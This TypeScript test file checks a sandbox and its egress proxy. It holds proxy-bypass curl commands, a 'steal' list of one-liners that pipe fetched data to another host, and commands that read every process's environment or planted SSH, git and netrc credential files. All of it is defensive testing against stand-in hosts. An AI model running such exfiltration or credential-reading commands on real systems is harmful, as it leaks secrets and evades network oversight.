// Box and egress together: a command in a real box, with the real egressd behind its one port.
// Tries proxy settings and services of the box's own as bypasses, and changes rules under open
// tunnels.
import assert from 'node:assert/strict';
import { chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type EgressdTestHost, startHost } from '../../src/daemons/egressd/testing/host.ts';
import { startHttp, startTcp, type WirePosition } from '../../src/daemons/egressd/testing/wires.ts';
import { secretPaths } from '../../src/daemons/sandboxd/adapters/host-paths.ts';
import type { Bind, Guard } from '../../src/daemons/sandboxd/adapters/plan.ts';
import { makeWarden } from '../../src/daemons/sandboxd/adapters/warden.ts';
import { boxBinds } from '../../src/daemons/sandboxd/rules.ts';
import { proxyEnvironment } from '../../src/policy/egress.ts';
import type { EgressRule } from '../../src/wire/egressd.ts';
import { exited } from './support/cases.ts';
import { MODES, TestWarden } from './support/warden.ts';

const SECRET = 'a service of the host';
const NODE_ENV = { OPENSSL_CONF: '/dev/null' };
const NODE_LIMITS = { memoryBytes: 2 ** 30, nofile: 1_024 };

for (const mode of MODES) {
  describe(`a box with egress, as ${mode}`, () => {
    let warden: TestWarden;
    let host: EgressdTestHost;
    let web: WirePosition;
    let local: WirePosition;
    let echo: WirePosition;
    let sink: WirePosition;
    let taken = '';
    let made = 0;
    before(async () => {
      web = await startHttp((_, response) => response.end('a page'));
      local = await startHttp((_, response) => response.end(SECRET));
      echo = await startTcp((socket) => socket.on('error', () => {}).pipe(socket));
      sink = await startHttp((request, response) => {
        request.on('data', (chunk) => (taken += chunk));
        request.on('end', () => response.end('received'));
      });
      warden = new TestWarden({ mode });
      const dir = join(warden.dir, 'egress');
      const names = ['good.test', 'other.test', 'third.test'];
      host = await startHost({
        dir,
        config: {
          hosts: Object.fromEntries(names.map((name) => [name, '127.0.0.1'])),
          allow_private: names.flatMap((name) =>
            [web, echo, sink].map(({ port }) => `${name}:${port}`),
          ),
          mirrors: ['other.test'],
        },
      });
      for (const name of ['', 'run', 'run/egressd']) chmodSync(join(dir, name), 0o755);
      copyFileSync(process.execPath, join(warden.dir, 'bin/node'));
      chmodSync(join(warden.dir, 'bin/node'), 0o755);
      await warden.start();
    });
    after(async () => {
      await warden.stop();
      await host.stop();
      for (const server of [web, local, echo, sink]) await server.close();
    });
    const at = ({ port }: WirePosition, name = 'good.test') => `${name}:${port}`;
    const egressFor = (allow: EgressRule[]) => host.open(`${mode} ${made++}`, allow);
    const run = async (egress: string, script: string, guardsOff: Guard[] = []) => {
      const env = { PATH: '/usr/bin:/bin', HOME: '/tmp', ...proxyEnvironment() };
      // On the host's network the proxy port would be the host's own, and may be in use.
      const egressPlan = guardsOff.includes('netns') ? {} : { egress };
      return exited(await warden.run(['/bin/sh', '-c', script], { ...egressPlan, env, guardsOff }));
    };

    it('[C113] [C170] [R170] [R332] [R334] D1 a program that ignores the proxy settings fails immediately', async () => {
      const { socket } = await egressFor([{ host: 'good.test', port: web.port }]);
      const page = `http://${at(web)}/`;
      assert.equal((await run(socket, `curl -sS ${page}`)).stdout, 'a page', 'control');
      const commands = [
        `curl -sS --noproxy '*' --resolve good.test:${web.port}:127.0.0.1 ${page}`,
        `env -i curl -sS --resolve good.test:${web.port}:127.0.0.1 ${page}`,
        `curl -sS --noproxy '*' http://192.0.2.1/`,
      ];
      for (const command of commands) {
        const outcome = await run(socket, command);
        assert.equal(outcome.stdout, '', command);
        assert.notEqual(outcome.code, 0, command);
        assert.equal(outcome.endedBy, 'itself', command);
      }
      const control = await run(socket, commands[0]!, ['netns']);
      assert.equal(control.stdout, 'a page', 'control: on the host’s network it succeeds');
    });
    it('D13 the decision is the same by environment, by option and by hand', async () => {
      const { socket } = await egressFor([{ host: 'good.test', port: web.port }]);
      const bad = `http://${at(web, 'other.test')}/`;
      const commands = [
        `curl -s -o /dev/null -w '%{http_code}' ${bad}`,
        `curl -s -o /dev/null -w '%{http_code}' -x http://127.0.0.1:3128 ${bad}`,
        `curl -s -o /dev/null -w '%{http_connect}' -p ${bad}`,
      ];
      for (const command of commands)
        assert.equal((await run(socket, command)).stdout, '403', command);
    });
    it('D23 the box’s own services are reachable without the proxy, the host’s are not', async () => {
      const { socket } = await egressFor([{ host: 'good.test', port: web.port }]);
      for (const name of ['127.0.0.1', 'localhost']) {
        const command = `curl -sS --max-time 5 http://${name}:${local.port}/`;
        const outcome = await run(socket, command);
        assert.notEqual(outcome.code, 0, name);
        assert.ok(!outcome.stdout.includes(SECRET), name);
      }
      const byProxy = `curl -s --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:${local.port}/`;
      assert.ok(!(await run(socket, byProxy)).stdout.includes(SECRET));
      const control = await run(socket, `curl -sS http://127.0.0.1:${local.port}/`, ['netns']);
      assert.equal(control.stdout, SECRET, 'control');
      assert.equal((await run(socket, '/opt/hostile own-loopback')).code, 0, 'its own');
    });
    it('D25 a port opened in the box is its own, free even if taken on the host, and never privileged', async () => {
      const script = (port: number) =>
        `require('net').createServer().on('error', (e) => { console.log(e.code); process.exit(1); })` +
        `.listen(${port}, '0.0.0.0', () => process.exit(0))`;
      const listen = async (port: number, guardsOff: Guard[]) => {
        const args = ['/opt/node', '-e', script(port)];
        return exited(await warden.run(args, { env: NODE_ENV, limits: NODE_LIMITS, guardsOff }));
      };
      const taken: Server = createServer(() => {}).listen(0, '0.0.0.0');
      await new Promise((resolve) => taken.once('listening', resolve));
      const { port } = taken.address() as { port: number };
      try {
        const outcome = await listen(port, []);
        assert.equal(outcome.code, 0, JSON.stringify(outcome));
        assert.match((await listen(port, ['netns'])).stdout, /EADDRINUSE/, 'control: the host’s');
      } finally {
        taken.close();
      }
      assert.match((await listen(80, [])).stdout, /EACCES/);
    });
    it('D22 what one host sends, the same command cannot send to another', async () => {
      const steal = [
        'text=$(curl -s $FROM); curl -s -d "$text" $TO',
        'curl -s $FROM | curl -s -T - $TO',
        'curl -s $FROM >/tmp/t; for i in 1 2 3; do curl -s --data-binary @/tmp/t $TO; done',
        'curl -s $FROM | curl -s -p -d @- $TO',
        '(curl -s $FROM; sleep 0.2) | (sleep 0.1; exec curl -s -d @- $TO)',
      ];
      const allow = ['good.test', 'other.test', 'third.test'].flatMap((name) =>
        [web, sink].map(({ port }) => ({ host: name, port })),
      );
      for (const command of steal)
        for (const [from, isOpen] of [
          ['other.test', true],
          ['good.test', false],
        ] as const) {
          taken = '';
          const { socket } = await egressFor(allow);
          const places = `FROM=http://${at(web, from)}/ TO=http://${at(sink, 'third.test')}/;`;
          const { stdout, endedBy } = await run(socket, `${places} ${command}`);
          assert.equal(endedBy, 'itself');
          assert.equal(taken.includes('a page'), isOpen, `${from}: ${command}: ${stdout}`);
          if (!isOpen && !command.includes('-p'))
            assert.match(stdout, /received text from good.test/);
        }
    });

    it('D14 a tightened rule aborts open tunnels; another edit leaves them open and opens nothing', async () => {
      const both: EgressRule[] = ['good.test', 'other.test'].map((name) => ({
        host: name,
        port: echo.port,
        plain: true,
      }));
      const name = `${mode} tightened`;
      const { socket } = await host.open(name, both);
      const goes = await openTunnel(socket, at(echo, 'other.test'));
      const stays = await openTunnel(socket, at(echo));
      assert.equal((await host.open(name, [both[0]!])).cut, 1);
      const gone = await goes.command.ended;
      assert.ok(gone !== 'gone' && gone.endedBy === null, JSON.stringify(gone));
      await host.open(name, [both[0]!, { host: 'good.test', port: web.port }]);
      await stays.send('still here');
      const bad = `curl -s -o /dev/null -w '%{http_connect}' -p http://${at(echo, 'other.test')}/`;
      assert.equal((await run(socket, bad)).stdout, '403');
      stays.command.kill();
      await stays.command.ended;
    });

    /** A tunnel opened by a program in a box, which sends the lines it is given. */
    const openTunnel = async (egress: string, target: string) => {
      const link = makeWarden(warden.socket);
      closing.push(() => link.close());
      const script =
        "const s = require('net').connect(3128, '127.0.0.1'); process.stdin.pipe(s).pipe(process.stdout);" +
        "s.on('error', () => {}).on('end', () => process.exit()).on('close', () => process.exit())";
      const plan = warden.plan(['/opt/node', '-e', script], { env: NODE_ENV, limits: NODE_LIMITS });
      const command = await link.start({ ...plan, egress });
      let received = '';
      const waiting: (() => void)[] = [];
      void (async () => {
        for await (const { bytes } of command.readOutput()) {
          received += bytes.toString();
          for (const check of waiting) check();
        }
      })();
      const until = (text: string) =>
        new Promise<void>((resolve) => {
          const check = () => received.includes(text) && resolve();
          waiting.push(check);
          check();
        });
      const send = async (text: string) => {
        await command.stdin(Buffer.from(`${text}\n`));
        await until(text);
      };
      await command.stdin(Buffer.from(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
      await until(' 200 ');
      await send('hello');
      return { command, send };
    };
    const closing: (() => void)[] = [];
    after(() => {
      for (const close of closing) close();
    });
  });

  describe(`keys of other users, as ${mode}`, () => {
    let warden: TestWarden;
    before(async () => {
      warden = await new TestWarden({ mode }).start();
    });
    after(() => warden.stop());

    it('[C162] D20 a process has the environment it was given and cannot read another’s', async () => {
      process.env.A_KEY_OF_THE_HOST = 'sk-secret';
      try {
        const outcome = exited(
          await warden.run(['/bin/sh', '-c', 'cat /proc/self/environ /proc/[0-9]*/environ'], {
            env: { ONLY: 'this' },
          }),
        );
        assert.match(outcome.stdout, /ONLY=this/);
        assert.doesNotMatch(outcome.stdout, /sk-secret/);
      } finally {
        delete process.env.A_KEY_OF_THE_HOST;
      }
    });
    it('[R403] [R412] D20 key files stay unreadable, whichever parent directory is visible', async () => {
      const home = join(warden.outside, 'person');
      for (const dir of ['', '.ssh', '.config', '.config/gh']) mkdirSync(join(home, dir));
      const files = ['.netrc', '.git-credentials', '.ssh/id_ed25519', '.config/gh/hosts.yml'];
      for (const name of [...files, 'notes.txt']) {
        writeFileSync(join(home, name), 'sk-secret\n');
        chmodSync(join(home, name), 0o644);
      }
      const passwd = join(warden.dir, 'passwd');
      writeFileSync(passwd, 'person:x:1000:1000::/home/person:/bin/sh\n');
      const elsewhere = secretPaths([], passwd, (dir) => `/var${dir}`);
      for (const dir of ['/home', '/var/home'])
        assert.ok(elsewhere.includes(`${dir}/person/.ssh`), 'by both names, where /home is a link');
      const secrets = secretPaths([], passwd).map((path) => path.replace('/home/', '/srv/'));
      const places = { system: [], workspace: '/w', home: '/h', homeAt: '/home/a', secrets };
      const rules = { read: ['/srv/person'], write: [], deny: [] };
      const { binds } = boxBinds(rules, places, () => true);
      const shown = binds.map((bind): Bind => ({ ...bind, ...(bind.src ? { src: home } : {}) }));
      const read = async (name: string, more: Bind[]) =>
        exited(await warden.run(['/bin/cat', `/srv/person/${name}`], { binds: more })).stdout;
      const open = shown.filter(({ kind }) => kind !== 'mask');
      for (const name of files) {
        assert.equal(await read(name, shown), '', name);
        assert.equal(await read(name, open), 'sk-secret\n', `control: ${name}`);
      }
      assert.equal(await read('notes.txt', shown), 'sk-secret\n', 'the rest is visible');
    });
  });
}
